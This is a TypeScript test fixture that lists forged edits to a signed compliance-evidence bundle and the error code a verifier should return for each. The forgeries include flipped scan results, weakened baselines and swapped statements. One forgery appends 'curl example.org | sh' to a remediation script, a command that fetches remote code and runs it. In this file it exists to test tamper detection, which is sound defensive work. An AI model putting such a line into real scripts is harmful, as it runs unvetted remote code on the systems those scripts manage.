import { gunzipSync, gzipSync } from 'node:zlib';
import { hallmarkFile, statementFile } from '../../../src/evidence/bundle/index.ts';
import { otherRun, signedEvidence } from '../sample.ts';
import { changed, edit, editVerdict, type Forgery } from './forging.ts';

const edited = (name: string, change: (text: string) => string): Forgery['make'] => () => changed((contents) => edit(contents, name, change));

/** Files changed by somebody who has no key. */
export const unsignedForgeries: readonly Forgery[] = [
  { name: 'a result flipped in the ARF', code: 'digest-mismatch', make: () => changed((contents) => new Map(contents).set('arf.xml.gz',
    gzipSync(gunzipSync(contents.get('arf.xml.gz')!).toString().replace('<result>fail</result>', '<result>pass</result>')))) },
  { name: 'the same ARF compressed anew', code: 'digest-mismatch', make: () => changed((contents) => new Map(contents).set('arf.xml.gz', gzipSync(gunzipSync(contents.get('arf.xml.gz')!), { level: 1 }))) },
  { name: 'a better pass rate in the verdict', code: 'digest-mismatch', make: () => changed((contents) => editVerdict(contents, (verdict) => { verdict.pass_rate = 1; })) },
  { name: 'a weakened baseline', code: 'digest-mismatch', make: edited('baseline.lock.yaml', (text) => text.replace('passRate: 0.6', 'passRate: 0.1')) },
  { name: 'another tailoring', code: 'digest-mismatch', make: edited('tailoring.xml', () => '<Tailoring><other/></Tailoring>') },
  { name: 'a changed remediation script', code: 'digest-mismatch', make: edited('remediation.sh', (text) => `${text}curl example.org | sh\n`) },
  { name: 'a changed record of hardening', code: 'digest-mismatch', make: edited('harden.jsonl', (text) => text.replace('ok', 'failed')) },
  { name: 'another environment', code: 'digest-mismatch', make: edited('environment.json', (text) => text.replace('1.3.7', '1.4.2')) },
  { name: 'another state before', code: 'digest-mismatch', make: edited('before.json', (text) => text.replace('"pass": 0', '"pass": 1')) },
  { name: 'a record of hardening left out', code: 'statement-files', make: () => changed((contents) => new Map([...contents].filter(([name]) => name !== 'harden.jsonl'))) },
  { name: 'a report that nobody signed', code: 'statement-files', make: () => changed((contents) => new Map(contents).set('report.html', Buffer.from('<html/>'))) },
  { name: 'a list of packages that nobody signed', code: 'statement-files', make: () => changed((contents) => new Map(contents).set('sbom.cdx.json', Buffer.from('{}\n'))) },
  { name: 'the ARF of another image', code: 'digest-mismatch', make: () => changed(async (contents) => new Map(contents).set('arf.xml.gz', (await signedEvidence({ run: otherRun, image: 'other' })).get('arf.xml.gz')!)) },
  { name: 'the verdict of another run', code: 'digest-mismatch', make: () => changed(async (contents) => new Map(contents).set('verdict.json', (await signedEvidence({ run: otherRun })).get('verdict.json')!)) },
  { name: 'statement and hallmark of another run', code: 'digest-mismatch', make: () => changed(async (contents) => {
    const other = await signedEvidence({ run: otherRun });
    return new Map(contents).set(statementFile, other.get(statementFile)!).set(hallmarkFile, other.get(hallmarkFile)!);
  }) },
  { name: 'the statement of another run beside this hallmark', code: 'statement-unsigned', make: () => changed(async (contents) => new Map(contents).set(statementFile, (await signedEvidence({ run: otherRun })).get(statementFile)!)) },
  { name: 'a changed statement', code: 'statement-unsigned', make: edited(statementFile, (text) => text.replace('"pass_rate": 0.8', '"pass_rate": 0.9')) },
  { name: 'an older bundle of the same image in place of a newer one', code: 'run-mismatch', make: () => changed((contents) => contents), expect: { run: otherRun } },
  { name: 'the bundle of another image', code: 'image-mismatch', make: () => changed((contents) => contents), expect: { image: 'debian13-golden' } },
];
